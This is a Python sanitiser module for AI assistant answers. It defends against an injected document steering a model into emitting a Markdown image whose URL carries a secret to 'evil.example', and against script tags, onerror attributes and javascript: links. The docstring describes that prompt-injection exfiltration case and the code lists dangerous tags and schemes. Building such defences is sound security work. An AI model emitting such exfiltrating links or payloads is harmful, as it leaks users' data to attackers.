"""Answer output handling (OWASP LLM05): make generated text safe to render as Markdown in a browser.

A model that read an injected document can be steered to emit `![x](https://evil.example/?q=<secret>)`:
the browser fetches the image the moment the answer is rendered, leaking data without a click. It can also
emit raw HTML (`<script>`, `<img onerror=...>`) or `javascript:` links. `sanitize_answer` neutralises all
three while keeping ordinary prose, code and citation markers `[n]` intact:

- Markdown images (inline and reference style) whose URL has a scheme or is protocol-relative become the
  text `[image removed: alt]`. Local relative images are kept.
- Links whose URL scheme is not http, https or mailto (`javascript:`, `data:`, `vbscript:`, also when
  hidden with entities, case or whitespace) keep only their text.
- `<script>`, `<style>`, `<iframe>`, `<object>`, `<embed>` elements are dropped with their content; every
  other HTML tag is escaped (`&lt;b&gt;`) so it shows as text instead of being interpreted.
- With `sources` (the text the answer was generated from), a link whose URL the sources do not contain verbatim
  keeps only its text, and such a bare URL becomes `[link removed]`: a model steered by an injected document
  cannot invent a link that carries data out, while links copied from the documents still work.

The server/UI must still render with a Markdown renderer that escapes HTML (defence in depth); this
function is the server-side guarantee that the answer JSON itself carries nothing live.
"""

from __future__ import annotations

import html
import re

_DANGEROUS_BLOCK = re.compile(r"<\s*(script|style|iframe|object|embed|noscript|template)\b[^>]*>.*?<\s*/\s*\1\s*>", re.I | re.S)
_DANGEROUS_OPEN = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|noscript|template)\b[^>]*>?", re.I)
_TAG = re.compile(r"</?[A-Za-z!?][^<>]*>?")  # a browser only starts a tag when a name follows "<" directly
_URL = r"((?:[^()\s<>]|\([^()\s]*\))*)"  # balanced single-level parentheses, like CommonMark
_IMAGE_INLINE = re.compile(r"!\[([^\]]*)\]\(\s*<?" + _URL + r">?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)")
_IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[([^\]]*)\]")
_LINK_INLINE = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?" + _URL + r">?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)")
_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[([^\]]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$")
_SAFE_LINK_SCHEMES = ("http", "https", "mailto")


def _scheme(url: str) -> str | None:
    """The URL scheme after undoing entity/percent tricks and dropping whitespace/control chars; None if relative."""
    decoded = html.unescape(url)
    decoded = re.sub(r"%([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), decoded)
    decoded = re.sub(r"[\x00-\x20\x7f]+", "", decoded).lower()
    if decoded.startswith("//"):
        return "//"
    m = re.match(r"^([a-z][a-z0-9+.-]*):", decoded)
    return m.group(1) if m else None


def _external(url: str) -> bool:
    return _scheme(url) is not None


_BARE_URL = re.compile(r"(?<![\w(<\[/])(?:https?:)?//[^\s<>()\[\]]+", re.I)


def sanitize_answer(text: str, sources: str | None = None) -> str:
    """Answer text with no live external images, no executable links and no interpreted HTML; with `sources`,
    no link whose URL is not in the sources verbatim."""
    if not text:
        return text
    ref_urls = {m.group(1).strip().lower(): m.group(2) for m in _REF_DEF.finditer(text)}

    def image(m: re.Match[str]) -> str:
        return f"[image removed: {m.group(1)}]" if _external(m.group(2)) else m.group(0)

    def image_ref(m: re.Match[str]) -> str:
        key = (m.group(2) or m.group(1)).strip().lower()
        url = ref_urls.get(key)
        return f"[image removed: {m.group(1)}]" if url is None or _external(url) else m.group(0)

    def link(m: re.Match[str]) -> str:
        scheme = _scheme(m.group(2))
        return m.group(1) if scheme is not None and scheme not in _SAFE_LINK_SCHEMES else m.group(0)

    def ref_def(m: re.Match[str]) -> str:
        scheme = _scheme(m.group(2))
        return "" if scheme is not None and scheme not in _SAFE_LINK_SCHEMES else m.group(0)

    text = _DANGEROUS_BLOCK.sub("", text)
    text = _DANGEROUS_OPEN.sub("", text)
    text = _IMAGE_INLINE.sub(image, text)
    text = _IMAGE_REF.sub(image_ref, text)
    if sources is not None:
        text = _only_source_links(text, sources)
    text = _LINK_INLINE.sub(link, text)
    text = _REF_DEF.sub(ref_def, text)
    text = _TAG.sub(lambda m: html.escape(m.group(0), quote=False), text)
    return text


def _only_source_links(text: str, sources: str) -> str:
    """Links and bare URLs whose URL does not occur verbatim in `sources` lose the URL (images are handled by
    `sanitize_answer` whatever their URL)."""

    def link(m: re.Match[str]) -> str:
        return m.group(0) if m.group(2) and m.group(2) in sources else m.group(1)

    def bare(m: re.Match[str]) -> str:
        url = m.group(0).rstrip(".,;:!?")
        return m.group(0) if url in sources else "[link removed]" + m.group(0)[len(url):]

    text = _LINK_INLINE.sub(link, text)
    return _BARE_URL.sub(bare, text)


_UNPRINTABLE = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")


def printable(text: str) -> str:
    """`text` for a one-line listing: control characters, line breaks and bidirectional overrides (U+202E makes
    `gpj.exe` read as `exe.jpg`) shown as visible escapes (`\\n`, `\\u202e`), so a file name cannot forge lines or
    reorder what a terminal shows."""
    return _UNPRINTABLE.sub(lambda m: m.group(0).encode("unicode_escape").decode("ascii"), text)
